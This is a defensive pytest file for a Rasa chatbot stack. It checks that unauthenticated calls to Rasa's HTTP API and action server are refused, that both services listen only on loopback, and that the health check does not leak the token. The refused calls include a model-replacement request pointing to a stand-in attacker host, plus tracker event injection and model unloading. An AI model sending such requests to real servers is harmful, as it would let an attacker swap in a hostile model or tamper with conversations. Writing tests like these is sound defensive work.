"""Security against the real processes (issue 13): Rasa and the action server are private services.

Everything here talks to the session's stack (tests/e2e/conftest.py) over loopback HTTP, as an
attacker on the same network would, and as the API does with its credentials.
"""

from __future__ import annotations

import httpx
import psutil
import pytest

pytestmark = pytest.mark.e2e

ATTACKER_URL = "http://attacker.example/model.tar.gz"


def _listening_addresses(pid: int) -> set[str]:
    """The IP addresses the process (and its children: Sanic workers) listen on."""
    processes = [psutil.Process(pid), *psutil.Process(pid).children(recursive=True)]
    addresses = set()
    for process in processes:
        try:
            connections = process.net_connections(kind="inet")
        except psutil.NoSuchProcess:
            continue
        addresses |= {c.laddr.ip for c in connections if c.status == psutil.CONN_LISTEN}
    return addresses


def test_rasa_http_api_refuses_every_call_without_the_token(stack):
    sender = "web-security-victim-1"
    stack.say(sender, "oi")  # a conversation exists
    rasa = httpx.Client(base_url=stack.rasa_url, timeout=30)
    refused = {
        "tracker read": rasa.get(f"/conversations/{sender}/tracker"),
        "events injection": rasa.post(f"/conversations/{sender}/tracker/events",
                                      json={"event": "slot", "name": "pa_state", "value": None}),
        "events replacement": rasa.put(f"/conversations/{sender}/tracker/events", json=[]),
        "story": rasa.get(f"/conversations/{sender}/story"),
        "execute": rasa.post(f"/conversations/{sender}/execute", json={"name": "action_restart"}),
        "trigger intent": rasa.post(f"/conversations/{sender}/trigger_intent", json={"name": "greet"}),
        "model replacement": rasa.put("/model", json={"model_server": {"url": ATTACKER_URL}}),
        "model unload": rasa.delete("/model"),
        "training": rasa.post("/model/train", content=b"{}"),
        "domain": rasa.get("/domain"),
        "wrong token": rasa.get(f"/conversations/{sender}/tracker", params={"token": "guess"}),
    }
    assert {name: r.status_code for name, r in refused.items()} == {name: 401 for name in refused}
    # With the token (what the API holds) the same tracker is readable, and nothing above changed it.
    tracker = rasa.get(f"/conversations/{sender}/tracker", params=stack.rasa_token)
    assert tracker.status_code == 200
    assert [e["event"] for e in tracker.json()["events"] if e["event"] == "user"] == ["user"]
    # The model is still the one served: the stack answers.
    assert stack.say(sender, "oi")


def test_the_action_server_answers_only_rasa(stack):
    call = {"next_action": "action_answer", "sender_id": "web-security-x", "tracker": {"sender_id": "web-security-x",
            "slots": {}, "latest_message": {}, "events": []}, "domain": {}, "version": "3.6"}
    assert httpx.post(f"{stack.actions_url}/webhook", json=call, timeout=30).status_code == 401
    assert httpx.post(f"{stack.actions_url}/webhook", json=call, headers={"X-Actions-Token": "guess"},
                      timeout=30).status_code == 401
    # Rasa itself has the token (bot/endpoints.yml): a turn that runs custom actions works.
    assert any(m.get("text") for m in stack.say("web-security-actions", "Posso alugar SUP em Bertioga?"))
    assert httpx.get(f"{stack.actions_url}/health", timeout=30).status_code == 200


def test_rasa_and_the_action_server_listen_on_loopback_only(stack):
    for part in ("rasa", "actions"):
        addresses = _listening_addresses(stack.processes[part].pid)
        assert addresses and addresses <= {"127.0.0.1"}, (part, addresses)


def test_healthz_reaches_rasa_with_its_token(stack):
    health = httpx.get(f"{stack.api_url}/healthz", timeout=30).json()
    assert health["parts"]["rasa"]["status"] == "up"
    assert stack.rasa_token["token"] not in str(health)
